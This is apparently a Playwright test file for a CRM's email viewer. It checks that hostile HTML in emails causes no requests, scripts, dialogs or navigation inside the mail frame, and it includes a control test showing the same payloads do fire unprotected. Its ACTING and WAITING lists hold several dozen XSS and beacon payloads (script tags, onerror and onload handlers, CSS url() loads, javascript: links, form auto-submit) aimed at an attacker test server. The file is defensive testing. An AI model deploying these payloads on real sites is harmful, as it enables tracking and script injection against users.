"""What attackers write has no effect in the frame of a real browser (M14): nothing is asked for,
nothing runs, nobody is led away. The control shows that the same letters act where nothing stops
them, so this test can go red."""

import html
from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect

from crm.models import Contact, User
from tests.browser.conftest import SignIn
from tests.factories import make_email
from tests.servers.pictures import Pictures, showing

# {u} is an address of the attacker's own for each; they act as soon as they are shown.
ACTING = """
<script>new Image().src = "{u}"</script>
<script src="{u}"></script>
<img src="data:," onerror="new Image().src='{u}'">
<svg onload="new Image().src='{u}'"></svg>
<svg><image href="{u}"/></svg>
<details open ontoggle="new Image().src='{u}'"><summary>x</summary></details>
<iframe src="{u}"></iframe>
<iframe srcdoc="<script>new Image().src='{u}'</script>"></iframe>
<object data="{u}"></object>
<embed src="{u}">
<meta http-equiv="refresh" content="0;url={u}">
<link rel="stylesheet" href="{u}">
<link rel="preload" as="image" href="{u}">
<style>@import url({u});</style>
<style>b.x {{ background: url({u}) }}</style><b class="x">x</b>
<style>@font-face {{ font-family: f; src: url({u}) }} u {{ font-family: f }}</style><u>x</u>
<div style="background: url('{u}')">x</div>
<div style="background-image: image-set(url({u}) 1x)">x</div>
<p style="list-style: url({u}); display: list-item">x</p>
<p style="border: 9px solid; border-image: url({u}) 30">x</p>
<p style="content: url({u})">x</p>
<table background="{u}"><tr><td>x</td></tr></table>
<img src="{u}">
<img src="data:," srcset="{u} 1x">
<picture><source srcset="{u}"><img></picture>
<video poster="{u}"></video>
<video><source src="{u}"></video>
<audio src="{u}" preload="auto"></audio>
<input type="image" src="{u}">
<form id=f action="{u}"></form><script>document.forms[0].submit()</script>
<noscript><p title="</noscript><img src='{u}'>"></noscript><img src="{u}">
<base href="{u}/"><img src="relative.png">
<xmp></xmp><img src="{u}"><plaintext><img src="{u}">
""".strip().splitlines()
# They wait for a press.
WAITING = """
<a href="javascript:new Image().src='{u}'">press</a>
<a href="java&#10;script:new Image().src='{u}'">press</a>
<a href="data:text/html,<script>new Image().src='{u}'</script>">press</a>
<form action="{u}"><button>press</button></form>
<a href="x" onclick="new Image().src='{u}'">press</a>
<label onmouseover="new Image().src='{u}'">press</label>
""".strip().splitlines()


@pytest.fixture
def attacker() -> Iterator[Pictures]:
    with showing() as server:
        yield server


def letters(server: Pictures, lines: list[str]) -> list[str]:
    return [line.format(u=f"{server.url}/{number}") for number, line in enumerate(lines)]


def test_nothing_acts_in_the_frame(
    sign_in: SignIn, hana: User, aoki: Contact, attacker: Pictures
) -> None:
    page = sign_in(hana)
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    hostile = letters(attacker, ACTING + WAITING)
    for letter in ("\n".join(hostile), "\n".join(reversed(hostile)), *hostile[-11:-6]):
        email = make_email(aoki, html=f"<table><tr><td>Hello {letter}</td></tr></table>the end")
        page.goto(f"/emails/{email.pk}/")
        frame = page.frame_locator("[data-mailframe]")
        expect(frame.locator("body")).to_contain_text("Hello")
        page.wait_for_load_state("networkidle")
        for press in frame.get_by_text("press", exact=True).all():
            press.click(force=True)
        assert page.url.endswith(f"/emails/{email.pk}/")
        assert frame.locator("form, script, iframe, [onclick], base, meta[http-equiv]").count() == 0
        assert len(page.context.pages) == 1
    assert attacker.asked == []


@pytest.mark.browser_context_args(bypass_csp=True)
def test_the_same_letters_act_where_nothing_stops_them(page: Page, attacker: Pictures) -> None:
    page = page.context.new_page()  # one whose console may say what it likes
    hostile = letters(attacker, ACTING)
    frames = "".join(f'<iframe srcdoc="{html.escape(letter)}"></iframe>' for letter in hostile)
    attacker.answers["/open"] = (200, {"Content-Type": "text/html"}, frames.encode())
    with page.expect_event("requestfinished", lambda request: request.url.endswith("/0")):
        page.goto(f"{attacker.url}/open")
    page.wait_for_load_state("networkidle")
    asked = {path.split("/")[1].partition("?")[0] for path in attacker.asked}
    silent = [letter for number, letter in enumerate(hostile) if str(number) not in asked]
    assert not silent


def test_images_come_on_request_and_by_our_server(
    sign_in: SignIn, hana: User, aoki: Contact, attacker: Pictures
) -> None:
    pictures = f'<img src="{attacker.url}/logo.png"><img src="{attacker.url}/p" width=1 height=1>'
    make_email(aoki, html=f"<table><tr><td>Hello {pictures}</td></tr></table>")
    page = sign_in(hana)
    page.goto(f"/contacts/{aoki.pk}/")
    expect(page.frame_locator("[data-mailframe]").locator("body")).to_contain_text("Hello")
    notice = page.locator("[data-blocked]")
    expect(notice).to_contain_text("1 remote image blocked")
    assert attacker.asked == []
    notice.get_by_role("link", name="Show images").click()
    picture = page.frame_locator("[data-mailframe]").locator("img")
    expect(picture).to_have_js_property("naturalWidth", 40)
    assert attacker.asked == ["/logo.png"]
    assert "Musubi" in attacker.headers[0]["user-agent"]
    page.get_by_role("button", name="Always show from this sender").click()
    expect(page.locator("#toasts")).to_contain_text("are shown from now on")
    expect(page.frame_locator("[data-mailframe]").locator("img")).to_be_visible()


def test_a_link_that_misleads_says_so(sign_in: SignIn, hana: User, aoki: Contact) -> None:
    email = make_email(aoki, html='<table><td><a href="https://evil.test/">bank.test</a></table>')
    page = sign_in(hana)
    page.goto(f"/emails/{email.pk}/")
    frame = page.frame_locator("[data-mailframe]")
    expect(frame.locator("a + .elsewhere")).to_have_text("⚠ leads to evil.test")
    expect(frame.locator("a")).to_have_attribute("title", "evil.test")
